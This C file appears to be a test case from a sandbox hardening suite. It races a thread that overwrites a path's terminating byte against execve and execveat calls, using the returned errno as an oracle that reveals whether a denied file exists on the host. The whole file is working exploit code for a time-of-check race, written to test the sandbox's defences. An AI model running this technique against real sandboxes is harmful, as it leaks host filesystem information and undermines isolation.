// execve and execveat whose path goes on behind its end: another process writes over the byte that ends it. If the host
// reads an empty path there, it may read a name of the host's instead, and its errno tells whether that exists.
// Seconds: 2
#include "hostile.h"

static char *path;
static size_t length;

static void flipper(void) {
    while (1) {
        path[length] = '/';
        for (int i = 0; i < 60; i++) asm volatile("pause");
        path[length] = 0;
        for (int i = 0; i < 60; i++) asm volatile("pause");
    }
}

static void attack(void) {
    path = shared_pages(4096, PROT_READ | PROT_WRITE);
    strcpy(path, "/attack/exec-oracle");
    length = strlen(path);
    strcpy(path + length, denied_path);
    path[length] = 0;
    racer(flipper);
    // Arguments that cannot be read: the host looks at the path first.
    char **bad = (char **)8;
    while (left() > 0) {
        long result = RAW(SYS_execve, path, bad, bad);
        // What the sandbox says of a path through a program, or of its own program with bad arguments.
        if (result != -ENOTDIR && result != -ENOENT && result != -EFAULT)
            succeeded("execve tells of the host's file by errno %ld", -result);
        result = RAW(SYS_execveat, AT_FDCWD, path, bad, bad, 0);
        if (result != -ENOTDIR && result != -ENOENT && result != -EFAULT)
            succeeded("execveat tells of the host's file by errno %ld", -result);
        round_done();
    }
}
